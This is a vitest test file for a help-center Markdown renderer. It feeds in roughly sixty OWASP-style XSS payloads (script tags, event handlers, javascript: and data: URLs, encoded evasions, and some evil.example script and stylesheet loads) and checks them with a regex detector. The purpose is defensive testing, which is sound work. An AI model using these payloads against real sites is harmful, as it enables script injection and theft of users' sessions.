// Article Markdown is untrusted (any agent can write it): known XSS payloads must not survive
// rendering + sanitising, while ordinary Markdown keeps its structure, heading ids and safe links.
import { describe, expect, it } from "vitest";
import { headingId, plainText, renderMarkdown } from "../../server/domain/help/markdown.ts";

// From the OWASP XSS filter evasion cheat sheet and common polyglots, as they would be typed into Markdown.
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)"/>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<img src="jav&#x09;ascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<body onload=alert(1)>`,
  `<svg onload=alert(1)></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JAVASCRIPT:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="jav&#x61;script:alert(1)">x</a>`,
  `<a href="jav&#97;script&colon;alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="x" onclick="alert(1)">x</a>`,
  `<a href="x" onmouseover=alert(1)>x</a>`,
  `[click](javascript:alert(1))`,
  `[click](JAVASCRIPT:alert(1))`,
  `[click](javascript&#58;alert(1))`,
  `[click](data:text/html,<script>alert(1)</script>)`,
  `[click](vbscript:msgbox(1))`,
  `![img](javascript:alert(1))`,
  `![img](data:image/svg+xml,<svg onload=alert(1)>)`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<div style="width: expression(alert(1))">x</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:alert(1)"><input type="submit"></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input onfocus=alert(1) autofocus>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<h2 onclick="alert(1)" id="x">Heading</h2>`,
  `<h2 id="x&quot; onclick=&quot;alert(1)">Heading</h2>`,
  `"><script>alert(1)</script>`,
  `<<script>script>alert(1)<</script>/script>`,
  `<!--<script>alert(1)//--><script>alert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `\`\`\`html\n<script>alert(1)</script>\n\`\`\``,
  `<a href="https://example.com" target="_blank" onclick="alert(1)">ok</a>`,
];

/** Everything that could run script or load active content, in rendered HTML. */
function dangerous(html: string): string[] {
  const found: string[] = [];
  const lower = html.toLowerCase();
  // Tags (not escaped text: a real tag starts with an unescaped "<").
  for (const tag of ["script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "input", "button", "video", "audio", "source", "body", "details", "marquee", "template", "noscript", "isindex"]) {
    if (new RegExp(`<${tag}[\\s>/]`, "i").test(html)) found.push(`<${tag}>`);
  }
  // Attributes inside real tags.
  for (const m of html.matchAll(/<[a-z][^>]*>/gi)) {
    const tag = m[0];
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(`event handler in ${tag}`);
    if (/\sstyle\s*=/i.test(tag)) found.push(`style in ${tag}`);
    if (/\s(?:srcdoc|formaction|xlink:href|action)\s*=/i.test(tag)) found.push(`active attribute in ${tag}`);
    for (const u of tag.matchAll(/\s(?:href|src)\s*=\s*"([^"]*)"/gi)) {
      // eslint-disable-next-line no-control-regex -- control characters are exactly what browsers strip from URLs
      const url = u[1]!.replace(/&#x?[0-9a-f]+;?|&colon;|&tab;|[\s\u0000-\u001f]/gi, "").toLowerCase();
      if (!/^(https?:|mailto:|\/|#|[a-z0-9._-]+(?:\/|$))/.test(url) || /^(javascript|vbscript|data):/.test(url)) found.push(`unsafe url ${u[1]} in ${tag}`);
    }
  }
  if (/javascript:/i.test(lower.replace(/&[a-z]+;|&#\d+;/g, "")) && /<a[^>]*href="[^"]*javascript:/i.test(html)) found.push("javascript: href");
  return found;
}

describe("help Markdown sanitising", () => {
  it.each(PAYLOADS.map((p) => [p]))("neutralises %s", (payload) => {
    const html = renderMarkdown(`Intro text.\n\n${payload}\n\nOutro.`);
    expect(dangerous(html), html).toEqual([]);
    expect(html).toContain("Intro text.");
  });

  it("the detector itself flags the raw payloads (so the test above can fail)", () => {
    const flagged = PAYLOADS.filter((p) => dangerous(p).length > 0);
    expect(flagged.length).toBeGreaterThan(PAYLOADS.length * 0.7);
  });

  it("keeps ordinary Markdown: headings with ids, lists, tables, emphasis, code", () => {
    const html = renderMarkdown("## Start a return\n\n1. Open **Orders**\n2. Choose *Get help*\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n`R-100123`\n\n## Start a return");
    expect(html).toContain('<h2 id="start-a-return">Start a return</h2>');
    expect(html).toContain('<h2 id="start-a-return-1">');
    expect(html).toContain("<ol>");
    expect(html).toContain("<strong>Orders</strong>");
    expect(html).toContain("<table>");
    expect(html).toContain("<code>R-100123</code>");
  });

  it("gives Chinese headings readable ids", () => {
    expect(renderMarkdown("## 退款多久到账？")).toContain('<h2 id="退款多久到账">');
    expect(headingId("What happens to my points?")).toBe("what-happens-to-my-points");
  });

  it("adds rel=noopener to links, and noreferrer nofollow to external ones", () => {
    const html = renderMarkdown("[inside](/help/returns-and-refunds) [outside](https://carrier.example/track) [mail](mailto:help@example.com)");
    expect(html).toContain('<a href="/help/returns-and-refunds" rel="noopener">inside</a>');
    expect(html).toContain('<a href="https://carrier.example/track" rel="noopener noreferrer nofollow">outside</a>');
    expect(html).toContain('href="mailto:help@example.com"');
  });

  it("keeps https and relative images but drops plain-http sources, which the pages' CSP (img-src https:) would block", () => {
    expect(renderMarkdown("![a](https://cdn.example/a.png) ![b](/images/b.png)")).toBe('<p><img src="https://cdn.example/a.png" alt="a" /> <img src="/images/b.png" alt="b" /></p>\n');
    const html = renderMarkdown("![tracker](http://evil.example/x.png)");
    expect(html).not.toContain("http://");
    expect(html).toContain('alt="tracker"');
  });

  it("turns Markdown into plain text for descriptions", () => {
    expect(plainText("## Title\n\nSee **[the guide](https://x.example)** now.")).toBe("Title See the guide now.");
  });
});
